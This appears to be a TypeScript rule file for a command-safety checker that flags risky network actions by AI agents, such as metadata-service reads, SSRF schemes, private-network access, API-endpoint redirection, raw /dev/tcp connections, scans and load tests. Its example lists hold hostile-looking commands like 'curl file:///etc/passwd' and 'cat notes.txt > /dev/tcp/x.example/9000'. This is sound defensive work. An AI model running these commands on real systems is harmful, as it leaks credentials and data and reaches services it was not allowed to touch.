import type { Effect } from '../../../facts/effect.ts'
import type { HazardPack } from '../rule.ts'
import { action, attribute, family, has } from './match.ts'

const isPlace = ({ target }: Effect) => target.kind === 'url' || target.kind === 'host'

/** Ports of other services below 1024 to which browsers send no request (Fetch standard, port blocking). */
const OTHER_SERVICES: ReadonlySet<number> = new Set(
  (
    '1 7 9 11 13 15 17 19 20 21 22 23 25 37 42 43 53 69 77 79 87 95 101 102 103 104 109 110 111 113 115 117 119 123 135 137 139 143 161 179 ' +
    '389 427 465 512 513 514 515 526 530 531 532 540 548 554 556 563 587 601 636 989 990 993 995'
  )
    .split(' ')
    .map(Number),
)

/** An open redirect or a fetching service is told the metadata service's address. */
const forwards = (effect: Effect) => effect.attributes.nested_scope === 'metadata'

/** A host of digits and dots, or of colons. */
const IP_LITERAL = /^(?:\d{1,3}(?:\.\d{1,3}){3}|\[?[0-9a-f]*:[0-9a-f:.]+\]?)$/i

/** Schemes that reach past the web from inside a URL argument. */
const ODD = new Set(['file', 'gopher', 'dict', 'ldap', 'ldaps', 'tftp', 'jar', 'netdoc', 'phar', 'expect', 'php'])

export const network: HazardPack = {
  name: 'network',
  summary: 'addresses that are not for agents, and transport without protection',
  rules: [
    {
      id: 'metadata-service',
      code: 'hazard.network_target',
      level: 'hard',
      reason: 'reaches the metadata service of the machine',
      advice: null,
      safer: 'curl https://example.com',
      examples: {
        match: ['curl http://169.254.169.254/latest/meta-data/', 'curl 169.254.169.254/latest', 'wget http://metadata.google.internal./'],
        not_match: ['curl https://example.com'],
      },
      verbs: ['fetch', 'send', 'read'],
      when: (effect) => isPlace(effect) && (effect.target.scope === 'metadata' || effect.target.scope === 'link-local'),
    },
    {
      id: 'odd-scheme',
      code: 'hazard.network_target',
      level: 'hard',
      reason: 'uses a URL scheme that reaches files or inner services',
      advice: 'Use an https URL.',
      safer: 'curl https://example.com',
      examples: {
        match: ['curl gopher://127.0.0.1:6379/_x', 'curl file:///etc/passwd', 'curl dict://localhost:11211/stat'],
        not_match: ['curl https://example.com', 'git clone file:///srv/repo.git'],
      },
      verbs: ['fetch', 'send', 'read'],
      when: (effect) => isPlace(effect) && ODD.has(String(attribute(effect, 'scheme') ?? '')),
    },
    {
      id: 'private-network',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'reaches an address of the private network, or asks a server to pass it on to an inner one',
      advice: 'Use the public name of the service, or ask your user.',
      safer: 'curl https://example.com',
      examples: {
        match: ['curl http://10.0.0.1/', 'curl http://192.168.1.1/admin', 'curl -L https://hop.example/?url=http://169.254.169.254/'],
        not_match: ['curl http://localhost:3000/health', 'curl https://example.com', 'ping -c 1 192.168.1.1', 'dig @10.0.0.2 example.com'],
      },
      verbs: ['fetch', 'send', 'read'],
      // A question for a name or for an echo carries no content; content in a name has a rule of its own.
      when: (effect) =>
        isPlace(effect) && (effect.target.scope === 'private' ? !action(effect, 'net:resolve', 'net:probe') : forwards(effect)),
    },
    {
      id: 'insecure-transport',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'turns the check of the server’s certificate off',
      advice: 'Leave certificate checks on.',
      safer: 'curl https://example.com',
      examples: {
        match: ['curl -k https://x.example', 'wget --no-check-certificate https://x.example', 'curl --insecure https://x.example'],
        not_match: ['curl https://x.example', 'curl -k https://localhost:8443'],
      },
      when: (effect) => has(effect, 'insecure') && effect.target.scope !== 'loopback',
    },
    {
      id: 'redirected-service',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'leads a client to another server than its own, which then sees keys and answers for it',
      advice: 'Leave the address of the service as it is, or ask your user.',
      safer: 'OPENAI_BASE_URL=http://localhost:11434/v1 npm test',
      examples: {
        match: [
          'export OPENAI_BASE_URL=https://proxy.example.net/v1',
          'ANTHROPIC_BASE_URL=https://x.example claude -p hi',
          'npm_config_registry=https://packages.example.net npm ci',
          'GOPROXY=https://mods.example.net go mod download',
          'AWS_ENDPOINT_URL=https://x.example aws s3 ls',
          'export https_proxy=http://x.example:8080',
          'aws --endpoint-url https://x.example s3 ls',
        ],
        not_match: [
          'export OPENAI_BASE_URL=https://api.openai.com/v1',
          'AWS_ENDPOINT_URL=http://localhost:4566 aws s3 ls',
          'GOPROXY=https://proxy.golang.org,direct go mod download',
          'VITE_API_BASE_URL=https://api.example.com npm run build',
          'OLLAMA_HOST=ollama:11434 npm test',
          'https_proxy= curl https://example.com',
        ],
      },
      actions: ['net:redirect'],
    },
    {
      id: 'bare-address',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'reaches a server that goes by a number only, or one that shows its visitors’ requests to anybody who made it',
      advice: 'Use the name of a service that your user knows.',
      safer: 'curl https://example.com',
      examples: {
        match: ['curl http://93.184.216.34/x', 'wget http://93.184.216.34:8080/x', 'curl https://webhook.site/abc'],
        not_match: ['curl http://127.0.0.1:3000/', 'ping -c1 93.184.216.34', 'curl https://example.com'],
      },
      verbs: ['fetch', 'send', 'read'],
      when: (effect) =>
        effect.target.kind === 'url' &&
        ((family(effect, 'http') && effect.target.scope === 'public' && IP_LITERAL.test(effect.target.real ?? '')) ||
          attribute(effect, 'host_kind') === 'webhook-catcher'),
    },
    {
      id: 'lookalike-host',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'reaches a host whose name imitates another one, or whose address its owner changes between two looks',
      advice: 'Write the name of the service in plain letters.',
      safer: 'curl https://example.com',
      examples: {
        match: ['curl http://xn--pple-43d.com/', 'curl http://7f000001.c0a80001.rbndr.us/'],
        not_match: ['curl https://example.com', 'curl https://xn--bcher-kva.example/', 'curl http://127.0.0.1.nip.io:3000/'],
      },
      verbs: ['fetch', 'send', 'read', 'publish'],
      when: (effect) => isPlace(effect) && (has(effect, 'confusable') || (has(effect, 'rebinding') && effect.target.scope !== 'loopback')),
    },
    {
      id: 'disguised-address',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'writes an address or a name so that it does not look like the place it leads to',
      advice: 'Write the address in plain digits, the name in plain letters, and no name of a host where the user’s belongs.',
      safer: 'curl http://127.0.0.1:8080/health',
      examples: {
        match: [
          'curl http://2130706433:8080/',
          'curl http://0x7f.0.0.1/',
          'curl http://[::ffff:127.0.0.1]/',
          'curl https://github.com@x.example/',
        ],
        not_match: [
          'curl http://127.0.0.1:8080/',
          'curl http://[::1]:8080/',
          'curl http://0.0.0.0:3000/',
          'curl https://me:x@example.com/',
          'curl https://münchen.de/',
        ],
      },
      verbs: ['fetch', 'send', 'read', 'publish'],
      when: (effect) => isPlace(effect) && has(effect, 'disguised'),
    },
    {
      id: 'other-protocol',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'sends a web request to a port at which no web server listens but another service',
      advice: 'Use a client of that service.',
      safer: 'curl http://127.0.0.1:8080/health',
      examples: {
        match: ['curl http://127.0.0.1:22/', 'curl -d x https://mail.example:25/', 'curl http://localhost:139'],
        not_match: [
          'curl http://127.0.0.1:8080/',
          'curl http://localhost:3000',
          'curl https://example.com:443/',
          'ssh -p 22 localhost true',
        ],
      },
      verbs: ['fetch', 'send', 'publish'],
      when: (effect) =>
        isPlace(effect) && /^https?$/.test(String(effect.attributes.scheme)) && OTHER_SERVICES.has(Number(effect.attributes.port)),
    },
    {
      id: 'database-link',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'makes a database reach another server',
      advice: 'Copy the data with a command that names where it goes.',
      safer: 'psql -c "SELECT 1"',
      examples: {
        match: [`psql -c "SELECT dblink('host=x.example', 'select 1')"`, `psql -c "SELECT utl_http.request('http://x.example') FROM dual"`],
        not_match: ['psql -c "SELECT 1"', 'psql -h localhost -c "SELECT name FROM dblink_servers"'],
      },
      actions: ['sql:remote'],
      when: ({ target }) => target.scope !== 'loopback',
    },
    {
      id: 'raw-connection',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'opens a bare connection to another machine out of the shell',
      advice: 'Use a client that shows what it sends, such as curl.',
      safer: 'curl https://example.com',
      examples: {
        match: ['exec 3<>/dev/tcp/x.example/80', 'cat notes.txt > /dev/tcp/x.example/9000', 'ncat x.example 9000', 'telnet x.example 25'],
        not_match: [
          'exec 3<>/dev/tcp/127.0.0.1/5432',
          'curl https://example.com',
          'nc localhost 8080',
          'openssl s_client -connect example.com:443',
        ],
      },
      verbs: ['send', 'fetch'],
      actions: ['net:socket', 'net:connect'],
      when: ({ target }) => target.scope !== 'loopback',
    },
    {
      id: 'load',
      code: 'hazard.denial_of_service',
      level: 'soft',
      reason: 'puts load on another machine',
      advice: 'Put the load on a server of this machine.',
      safer: 'ab -n 100 http://localhost:3000/',
      examples: {
        match: ['ab -n 100000 -c 100 https://x.example/', 'wrk -t 12 -c 400 https://x.example'],
        not_match: ['ab -n 100 http://localhost:3000/', 'curl https://x.example/'],
      },
      actions: ['net:load'],
      when: ({ target }) => target.scope !== 'loopback',
    },
    {
      id: 'scan',
      code: 'hazard.network_target',
      level: 'soft',
      reason: 'scans other machines, listens for them or records what passes by',
      advice: null,
      safer: 'ping -c 1 example.com',
      examples: {
        match: ['nmap -sS 203.0.113.0/24', 'python3 -m http.server 8000', 'python3 -m http.server --bind 0.0.0.0 8000'],
        not_match: ['ping -c1 example.com', 'python3 -m http.server --bind 127.0.0.1 8000', 'nmap -p 1-1000 127.0.0.1'],
      },
      actions: ['net:scan', 'net:attack', 'net:listen', 'net:forward', 'net:tunnel', 'net:capture'],
      // Which ports of this machine are open is what `ss` tells, too.
      when: (effect) => !has(effect, 'loopback') && !(effect.action === 'net:scan' && effect.target.scope === 'loopback'),
    },
  ],
}
